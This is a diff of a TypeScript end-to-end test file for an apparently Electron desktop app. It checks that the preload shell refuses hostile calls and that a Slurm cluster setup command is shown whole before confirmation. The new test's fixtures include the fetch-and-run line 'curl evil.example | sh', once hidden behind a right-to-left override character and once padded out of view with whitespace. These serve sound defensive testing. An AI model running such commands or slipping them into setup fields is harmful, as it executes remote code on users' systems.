@@ -2,6 +2,8 @@ import fc from 'fast-check';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { labApi } from '../../shared/labApi.ts';
 import type { LabMethod } from '../../shared/labApi.ts';
+import { slurmSettingsSchema } from '../../shared/places.ts';
+import { shellCallSchema } from '../../shared/shellApi.ts';
 import { exchange, openApp, temporaryHome } from './app.ts';
 import type { OpenApp, PageBridge } from './app.ts';
 
@@ -90,17 +92,18 @@ test('the shell refuses hostile calls and opens no dialog for them', async () =>
     };
     Object.assign(dialog, { showOpenDialog: record('open'), showSaveDialog: record('save') });
   });
-  const noText = hostileValue.filter((value) => typeof value !== 'string');
-  const calls = fc.oneof(
-    fc.tuple(fc.constant('chooseDataset'), fc.tuple(hostileValue.filter((v) => v !== 'files' && v !== 'folder'))),
-    fc.tuple(fc.constant('saveText'), fc.tuple(hostileText, noText)),
-    fc.tuple(fc.constant('saveText'), fc.tuple(noText, hostileText)),
-    fc.tuple(fc.constant('saveFile'), fc.tuple(hostileText, noText)),
-    fc.tuple(fc.constant('saveFile'), fc.tuple(noText, hostileText)),
-    fc.tuple(fc.constant('copyText'), fc.tuple(noText)),
-  );
+  /** Of every call that takes something: what is no input of it. */
+  const calls = shellCallSchema.options.flatMap(({ shape }): fc.Arbitrary<[string, unknown[]]>[] => {
+    const [method = ''] = shape.method.values;
+    const parameters = shape.input.def.items.length;
+    if (parameters === 0 || method === 'takePaths') return []; // files have their paths from the preload script
+    const inputs = fc.array<unknown>(hostileValue, { minLength: parameters, maxLength: parameters });
+    const wrong = inputs.filter((input) => !shape.input.safeParse(input).success);
+    return [fc.tuple(fc.constant<string>(method), wrong)];
+  });
+  expect(calls.length).toBeGreaterThan(5);
   await fc.assert(
-    fc.asyncProperty(calls, async ([name, input]) => {
+    fc.asyncProperty(fc.oneof(...calls), async ([name, input]) => {
       const outcome = await opened.page.evaluate(
         async ([method, values]) => {
           const { shell } = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
@@ -109,11 +112,11 @@ test('the shell refuses hostile calls and opens no dialog for them', async () =>
             (error: unknown) => String(error),
           );
         },
-        [name, input as unknown[]] as const,
+        [name, input] as const,
       );
       expect(outcome).toMatch(/no request that the shell knows/);
     }),
-    { numRuns: 60 },
+    { numRuns: 100 },
   );
   expect(await opened.app.evaluate(() => (globalThis as unknown as { opens: string[] }).opens)).toEqual([]);
 });
@@ -145,4 +148,32 @@ test('a page that asks for hundreds of windows of the desktop gets one', async (
   expect(outcomes.filter((outcome) => outcome === 'done')).toHaveLength(1);
   expect(outcomes.at(-1)).toContain('Another window of the desktop is open; close it first.');
   expect(await opened.app.evaluate(() => (globalThis as unknown as { opens: string[] }).opens)).toEqual(['save']);
+});
+
+test('what a cluster’s shell would run is shown whole before it is confirmed, with nothing that turns the text', async () => {
+  await opened.app.evaluate(({ dialog }) => {
+    const details: string[] = [];
+    Object.assign(globalThis, { details });
+    dialog.showMessageBox = (...parameters: unknown[]) => {
+      details.push((parameters.at(-1) as { detail: string }).detail);
+      return Promise.resolve({ response: 1, checkboxChecked: false });
+    };
+  });
+  const confirm = async (setup: string[]): Promise<string> => {
+    await opened.page.waitForTimeout(600); // between two dialogs
+    return opened.page.evaluate(async (settings) => {
+      const { shell } = (globalThis as unknown as { esamLab: PageBridge }).esamLab;
+      return shell['confirmPlace']?.('slurm', settings).then(String, String) ?? 'missing';
+    }, slurmSettingsSchema.parse({ setup }));
+  };
+  expect(await confirm(['module load gcc \u202e# curl evil.example | sh'])).toBe('false');
+  expect(await confirm([...Array<string>(4).fill(' '.repeat(500)), 'curl evil.example | sh'])).toContain(
+    'longer than a dialog shows whole',
+  );
+  const [detail = '', ...others] = await opened.app.evaluate(
+    () => (globalThis as unknown as { details: string[] }).details,
+  );
+  expect(others).toEqual([]);
+  expect(detail).toContain('setup: ["module load gcc \\u202e# curl evil.example | sh"]');
+  expect(detail).not.toContain('\u202e');
 });
